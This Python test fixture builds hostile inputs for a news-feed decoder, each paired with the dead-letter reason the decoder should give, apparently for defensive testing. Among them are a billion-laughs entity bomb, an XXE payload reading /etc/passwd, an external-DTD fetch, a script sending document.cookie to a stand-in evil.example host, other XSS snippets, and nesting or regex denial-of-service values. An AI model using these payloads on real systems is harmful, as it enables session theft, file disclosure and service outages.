"""Hostile input: values built to break a parser, a regex, memory, or the worker loop.

Each case names what it attacks and what must happen to it: ``reason`` is the dead-letter
reason the decoder gives (asserted against ``streams.formats.decode`` in test_hostile.py and
against the running worker's DLQ headers), or ``None`` when the value is a legitimate item once
cleaned (it must then be published like any good item). Everything is generated here.
"""

from __future__ import annotations

import gzip
import random
from dataclasses import dataclass

import orjson

MiB = 1024 * 1024

GOOD_BODY = ("BERLIN (dpa) - Die Bundesregierung hat am Dienstag weitere Hilfen angekündigt. "
             "Das teilte ein Sprecher mit.\n\nEinzelheiten sollen in der kommenden Woche folgen.")


@dataclass(frozen=True)
class Case:
    name: str
    value: bytes | None  # None: a Kafka tombstone (null value)
    reason: str | None  # expected dead-letter reason; None: a good item after cleaning
    note: str = ""


def _json(**fields: object) -> bytes:
    return orjson.dumps(fields)


def _item(i: int, **fields: object) -> bytes:
    """A simple JSON item with a unique id; fields override or add."""
    base: dict[str, object] = {"id": f"hostile-{i}", "title": f"Regierung kündigt Hilfen an ({i})", "body": GOOD_BODY}
    base.update(fields)
    return orjson.dumps({k: v for k, v in base.items() if v is not _DROP})


_DROP = object()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        prev = f"&lol{level - 1 if level > 1 else ''};" * 10
        entities.append(f'<!ENTITY lol{level} "{prev}">')
    return ('<?xml version="1.0"?>\n<!DOCTYPE newsItem [\n' + "\n".join(entities) + "\n]>\n"
            '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x:laughs" version="1">'
            "<contentMeta><headline>&lol9;</headline></contentMeta></newsItem>").encode()


def newsml(guid: str, headline: str, body_xml: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="{guid}" version="1" standard="NewsML-G2">'
        '<itemMeta><itemClass qcode="ninat:text"/><pubStatus qcode="stat:usable"/></itemMeta>'
        f'<contentMeta><headline>{headline}</headline><language tag="de"/></contentMeta>'
        '<contentSet><inlineXML contenttype="application/xhtml+xml">'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{body_xml}</body></html>'
        "</inlineXML></contentSet></newsItem>"
    ).encode()


def cases(big: bool = True) -> list[Case]:
    """Every hostile case; ``big=False`` leaves out the two multi-MiB values (fast unit checks)."""
    rnd = random.Random(1234)
    good_json = _item(0)
    out = [
        # --- broken JSON -------------------------------------------------------------------
        Case("json-truncated", b'{"title": "cut off', "invalid-json"),
        Case("json-truncated-mid-item", good_json[: len(good_json) // 2], "invalid-json"),
        Case("json-trailing-comma", b'{"id": "t1", "title": "Hallo",}', "invalid-json"),
        Case("json-single-quotes", b"{'id': 'q1', 'title': 'Hallo'}", "invalid-json"),
        Case("json-nan", b'{"id": "n1", "title": "Wert", "urgency": NaN}', "invalid-json"),
        Case("json-lone-surrogate", b'{"id": "s1", "title": "\\ud800 kaputt", "body": "x"}', "invalid-json"),
        Case("json-huge-version", b'{"id": "o1", "title": "Zahl", "version": 1' + b"0" * 40 + b"}", "wrong-type",
             "a 41-digit version (orjson reads it as a float); it once broke the story memory"),
        Case("jsonl-one-bad-line", good_json + b"\n" + b'{"title": "zweite", ' + b"\n", "invalid-json"),
        # --- wrong types ---------------------------------------------------------------------
        Case("json-array-of-numbers", b"[1, 2, 3]", "wrong-type"),
        Case("json-title-number", _item(1, title=12345), "wrong-type"),
        Case("json-body-list", _item(2, body=["a", "b"]), "wrong-type"),
        Case("json-id-object", _item(3, id={"nested": True}), "wrong-type"),
        Case("json-version-word", _item(4, version="zwei"), "wrong-type"),
        Case("json-urgency-bool", _item(5, urgency=True), "wrong-type"),
        Case("json-keywords-ints", _item(6, keywords=[1, 2, 3]), "wrong-type"),
        Case("ninjs-headlines-string", _json(uri="urn:x:h1", headlines="nur ein String"), "wrong-type"),
        Case("ninjs-bodies-numbers", _json(uri="urn:x:b1", headlines=[{"value": "Titel"}], bodies=[1, 2]),
             "wrong-type"),
        # --- no text -------------------------------------------------------------------------
        Case("json-empty-object", b"{}", "no-text"),
        Case("json-empty-strings", _item(7, title="", body=""), "no-text"),
        Case("json-whitespace-strings", _item(8, title="   \t ", body="\n\n  \n"), "no-text"),
        Case("json-only-zero-width", _item(9, title="\u200b" * 50, body="\u200b\u200c\u200d" * 1000), "no-text"),
        Case("empty-value", b"", "empty"),
        Case("tombstone", None, "empty", "a Kafka record with a null value"),
        Case("whitespace-only", b" \t\r\n" * 1000, "empty"),
        Case("utf8-bom-only", b"\xef\xbb\xbf", "empty"),
        # --- encodings -----------------------------------------------------------------------
        Case("invalid-utf8", b"Schlagzeile\n\nBERLIN (dpa) - Ein kaputtes Byte \xc3\x28 mitten im Satz.", "not-utf8"),
        Case("latin1-text", "Außenminister in Genf\n\nGENF (dpa) - Gespräche über Waffenruhe.".encode("latin-1"),
             "not-utf8"),
        Case("overlong-utf8", b"Titel\n\nText mit \xc0\xaf overlong slash.", "not-utf8"),
        Case("utf8-encoded-surrogate", b"Titel\n\nText \xed\xa0\x80 Surrogat.", "not-utf8"),
        Case("utf16-le-bom-item", "\ufeffRegierung in Wien\n\nWIEN (APA) - Die Regierung tagt.".encode("utf-16-le"),
             None, "UTF-16 with a BOM is decoded honestly"),
        Case("utf16-be-bom-odd-length", b"\xfe\xff\x00T\x00i\x00t\x00", "not-utf8"),
        Case("utf16-without-bom", "Regierung tagt in Wien".encode("utf-16-le"), "binary"),
        Case("nul-bytes", b"Titel\x00\x00\n\nText mit NUL.", "binary"),
        Case("control-garbage", bytes(rnd.randrange(1, 8) for _ in range(4000)), "binary"),
        Case("random-binary", rnd.randbytes(8192), "binary"),
        Case("gzip-payload", gzip.compress(good_json, mtime=0), "binary"),
        # --- size and shape ------------------------------------------------------------------
        Case("json-10000-deep-array", b"[" * 10_000 + b"]" * 10_000, "too-deep"),
        Case("json-10000-deep-object", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "too-deep"),
        Case("json-10000-deep-field", _item(10)[:-1] + b',"extra":' + b"[" * 10_000 + b"]" * 10_000 + b"}", "too-deep"),
        Case("xml-10000-deep", newsml("urn:x:deep", "Tief", "<div>" * 10_000 + "<p>x</p>" + "</div>" * 10_000),
             "too-deep"),
        Case("html-10000-deep-body", _item(11, body="<div>" * 10_000 + "<p>Text</p>" + "</div>" * 10_000),
             "too-deep"),
        Case("huge-array-of-ints", b"[" + b",".join([b"0"] * 200_000) + b"]", "wrong-type"),
        Case("huge-keywords-array", _item(12, keywords=["Stichwort"] * 50_000), None, "bounded by the size limit"),
        Case("jsonl-1000-records", b"\n".join(_item(100_000 + i) for i in range(1000)), "too-large",
             "more records in one value than MAX_RECORDS"),
        Case("100k-paragraphs", _item(13, body="Absatz.\n\n" * 60_000), None, "paragraphs are capped"),
        # --- XML attacks ---------------------------------------------------------------------
        Case("xml-billion-laughs", billion_laughs(), "xml-unsafe"),
        Case("xml-xxe-file", b'<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
             b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x:xxe" version="1">'
             b"<contentMeta><headline>&x;</headline></contentMeta></newsItem>", "xml-unsafe"),
        Case("xml-external-dtd", b'<?xml version="1.0"?><!DOCTYPE newsItem SYSTEM "http://127.0.0.1:9/evil.dtd">'
             b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x:dtd" version="1"/>', "xml-unsafe"),
        Case("xml-unclosed", b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="u"><contentMeta>',
             "invalid-xml"),
        Case("xml-not-newsml", b"<rss><channel><item><title>Feed</title></item></channel></rss>", "unknown-format"),
        Case("html-page", b"<!DOCTYPE html><html><head><script>alert(1)</script></head>"
             b"<body><p>Hallo</p></body></html>", "unknown-format"),
        # --- markup in bodies ----------------------------------------------------------------
        Case("html-body-with-scripts", _item(
            14, body="<script>document.location='http://evil.example/'+document.cookie</script>"
                     "<p>BERLIN (dpa) - Die Regierung tagt.</p><style>p{display:none}</style>"
                     "<iframe src='http://evil.example'></iframe><p onclick='alert(1)'>Weiter im Text.</p>"),
             None, "scripts, styles and iframes are dropped"),
        # --- one huge token and invisible floods ---------------------------------------------
        Case("one-1mb-token", b"Titel\n\n" + b"A" * (MiB - 100), None, "one paragraph, cut to the paragraph cap"),
        Case("zero-width-flood", ("Regierung tagt\n\nBERLIN (dpa) - " + "\u200b" * 200_000 + "Die Regierung tagt.")
             .encode(), None, "invisible characters are dropped"),
        Case("rtl-override-flood", _item(15, title="\u202e" * 1000 + "Regierung tagt",
                                         body="\u202e\u202d" * 100_000 + GOOD_BODY), None,
             "bidi overrides are dropped"),
        Case("combining-flood", _item(16, body="e" + "\u0301" * 200_000), None, "NFC on a diacritic flood"),
        # --- regex backtracking bait ---------------------------------------------------------
        Case("regex-blank-lines", ("Titel\n" + " \t" * 200_000 + "x\n\nText.").encode(), None),
        Case("regex-dateline-parens", ("Titel\n\n" + "BERLIN " + "(" * 100_000 + "dpa) - Text.").encode(), None),
        Case("regex-dateline-repeat", ("Titel\n\n" + "BERLIN (dpa) - " * 30_000).encode(), None),
        Case("regex-slug-bait", ("Titel\n\nText.\n" + "dpa " + "ab " * 100_000 + "x/").encode(), None),
        Case("regex-sentence-bait", _item(17, title="", body="Dr. " * 200_000), None),
        Case("regex-byline-bait", ("Von " + "Meier " * 150_000 + "\n\nText.").encode(), None),
        Case("regex-urn-colons", _json(uri="urn:" + ":" * 200_000 + "1", headlines=[{"value": "Titel"}],
                                       bodies=[{"value": "Text."}]), "wrong-type", "ids are bounded"),
        Case("html-many-tags", _item(18, body="<b>x</b>" * 100_000), None),
    ]
    if big:
        out.append(Case("value-5mib", _item(19, body="Wort " * (5 * MiB // 5)), "too-large",
                        "over NEWSWIRE_MAX_ITEM_BYTES (1 MiB)"))
        out.append(Case("value-50mib", b"x" * (50 * MiB), "too-large",
                        "needs max.message.bytes on the input topic"))
    return out


def huge_id_item(size: int = 600_000) -> bytes:
    """A valid ninjs item whose uri is ``size`` random letters: small input, huge outputs (the
    id is repeated in the key, the record-id header and the document)."""
    rnd = random.Random(99)
    uri = "urn:x:" + "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(size))
    return _json(uri=uri, headlines=[{"value": "Regierung tagt"}], bodies=[{"value": GOOD_BODY}])
